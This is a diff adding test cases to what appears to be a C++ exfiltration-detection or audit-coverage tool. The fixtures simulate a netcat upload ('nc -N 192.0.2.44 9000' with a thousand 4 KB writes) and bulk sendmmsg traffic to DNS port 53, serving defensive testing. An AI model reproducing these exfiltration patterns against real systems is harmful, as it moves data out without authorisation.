@@ -459,7 +459,30 @@ TEST_CASE("earned: of the calls that carry bytes only some are in the log") {
   for (int i = 0; i < 256; ++i) {
     log.write(CronHost::kCron, 6, 40);
   }
-  check_partial(log.text(), "no writev, sendto and sendmsg is in the log");
+  check_partial(log.text(), "no sendto, sendmsg and writev is in the log");
+}
+
+TEST_CASE("earned: one upload in many calls is no word on what rules ask for") {
+  CronHost log("", all_but({"sendto", "sendmsg", "writev"}));
+  const int nc = log.tool("/usr/bin/nc.openbsd", {"nc", "-N", "192.0.2.44", "9000"});
+  log.tcp(nc, 3, "192.0.2.44", 9000);
+  for (int i = 0; i < 1000; ++i) {
+    log.write(nc, 3, 4096);
+  }
+  log.done(nc);
+  CHECK(text_of(coverage_of(log)).find("sendmsg") == std::string::npos);
+}
+
+TEST_CASE("earned: many messages to the port of name servers are no questions") {
+  CronHost log = night({});
+  const int tool = log.tool("/opt/feed/up", {"up"});
+  log.udp(tool, 3);
+  log.connect(tool, 3, "192.0.2.53", 53);
+  for (int i = 0; i < 20; ++i) {
+    log.call(tool, "sendmmsg", 1024, {3, 0x7f, 1024});
+  }
+  log.done(tool);
+  check_partial(log.text(), "20480 messages by sendmmsg");
 }
 
 }  // namespace auexfil::test
